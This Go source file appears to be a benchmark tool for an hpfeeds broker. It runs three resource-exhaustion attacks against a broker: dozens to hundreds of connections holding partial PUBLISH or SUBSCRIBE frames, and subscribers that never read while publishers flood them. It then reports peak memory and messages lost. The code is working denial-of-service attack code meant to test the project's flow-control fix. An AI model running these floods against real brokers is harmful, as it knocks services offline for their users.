// Command attack runs one of the memory attacks of the flow-control issue
// against a running hpfeeds broker, with a healthy publisher and
// subscriber on channel "h" beside it, and prints the broker's peak RSS
// (VmHWM, reset through clear_refs first) and what the healthy subscriber
// lost, as JSON.
//
//	partial:   48 connections each send a PUBLISH declaring 10 MiB, all but
//	           its last byte, and wait
//	subscribe: 400 connections each send all but the last byte of a 1 MiB
//	           SUBSCRIBE, and wait
//	stalled:   8 subscribers that never read, on channels c0…c7, each with
//	           a publisher writing 64 KiB messages as fast as it can
package main

import (
	"encoding/binary"
	"encoding/json"
	"flag"
	"fmt"
	"github.com/hpfeeds-go/hpfeeds/bench/internal/proc"
	"net"
	"os"
	"strings"
	"sync/atomic"
	"time"

	"github.com/hpfeeds-go/hpfeeds/wire"
)

var (
	addr   = flag.String("addr", "127.0.0.1:10000", "broker host:port")
	ident  = flag.String("ident", "bench", "ident (it may publish and subscribe to h and c0…c7)")
	secret = flag.String("secret", "benchsecret", "")
	pid    = flag.Int("pid", 0, "the broker's process id")
	attack = flag.String("attack", "partial", "partial, subscribe or stalled")
	hold   = flag.Duration("hold", 10*time.Second, "how long the attack goes on")

	stopHealthy atomic.Bool
)

func main() {
	flag.Parse()
	os.WriteFile(fmt.Sprintf("/proc/%d/clear_refs", *pid), []byte("5"), 0)
	var healthySent, healthyGot atomic.Int64
	go healthy(&healthySent, &healthyGot)
	switch *attack {
	case "partial":
		body := 2 + len(*ident) + 1 + 10<<20 - 64
		head := publishHead(body)
		for range 48 {
			go hang(append(head, make([]byte, body-(len(head)-wire.HeaderLen)-1)...))
		}
	case "subscribe":
		head := binary.BigEndian.AppendUint32(nil, uint32(wire.HeaderLen+1<<20))
		head = append(append(head, byte(wire.OpSubscribe), byte(len(*ident))), *ident...)
		for range 400 {
			go hang(append(head, make([]byte, 1<<20-1-len(*ident)-1)...))
		}
	case "stalled":
		for i := range 8 {
			ch := fmt.Sprint("c", i)
			s := login()
			f, _ := wire.AppendSubscribe(nil, []byte(*ident), []byte(ch))
			s.Write(f) // and never read
			go flood(ch)
		}
	default:
		fail(fmt.Errorf("unknown attack %q", *attack))
	}
	time.Sleep(*hold)
	stopHealthy.Store(true)
	time.Sleep(10 * time.Millisecond)
	sent := healthySent.Load()
	deadline := time.Now().Add(10 * time.Second)
	for healthyGot.Load() < sent && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	json.NewEncoder(os.Stdout).Encode(map[string]any{
		"attack": *attack, "peak_rss_kib": proc.StatusKiB(*pid, "VmHWM"), "healthy_sent": sent, "healthy_lost": sent - healthyGot.Load(),
	})
}

// publishHead is the start of a PUBLISH whose body is n bytes, up to its payload.
func publishHead(n int) []byte {
	b := binary.BigEndian.AppendUint32(nil, uint32(wire.HeaderLen+n))
	b = append(append(b, byte(wire.OpPublish), byte(len(*ident))), *ident...)
	return append(b, 1, 'h')
}

func login() net.Conn {
	nc, err := net.Dial("tcp", *addr)
	if err != nil {
		fail(err)
	}
	rd := wire.NewReader(nc, wire.UniformLimits(1<<20))
	info, err := rd.Next()
	if err != nil {
		fail(err)
	}
	a, _ := wire.AppendAuth(nil, info.Payload, *ident, *secret)
	nc.Write(a)
	return nc
}

// hang sends b on a new connection and keeps it open.
func hang(b []byte) {
	nc := login()
	nc.Write(b)
	select {}
}

func flood(ch string) {
	nc := login()
	f, _ := wire.AppendPublish(nil, []byte(*ident), []byte(ch), make([]byte, 64<<10))
	for {
		if _, err := nc.Write(f); err != nil {
			return
		}
	}
}

// healthy publishes 2,000 messages a second on h and counts those its
// subscriber gets.
func healthy(sent, got *atomic.Int64) {
	s := login()
	f, _ := wire.AppendSubscribe(nil, []byte(*ident), []byte("h"))
	s.Write(f)
	time.Sleep(200 * time.Millisecond)
	go func() {
		rd := wire.NewReader(s, wire.UniformLimits(1<<20))
		for {
			fr, err := rd.Next()
			if err != nil {
				return
			}
			if fr.Op == wire.OpPublish && string(fr.Channel) == "h" {
				got.Add(1)
			}
		}
	}()
	p := login()
	msg, _ := wire.AppendPublish(nil, []byte(*ident), []byte("h"), []byte(strings.Repeat("m", 200)))
	for range time.Tick(time.Millisecond / 2) {
		if stopHealthy.Load() {
			return
		}
		if _, err := p.Write(msg); err != nil {
			return
		}
		sent.Add(1)
	}
}

func fail(err error) {
	fmt.Fprintln(os.Stderr, "attack:", err)
	os.Exit(2)
}
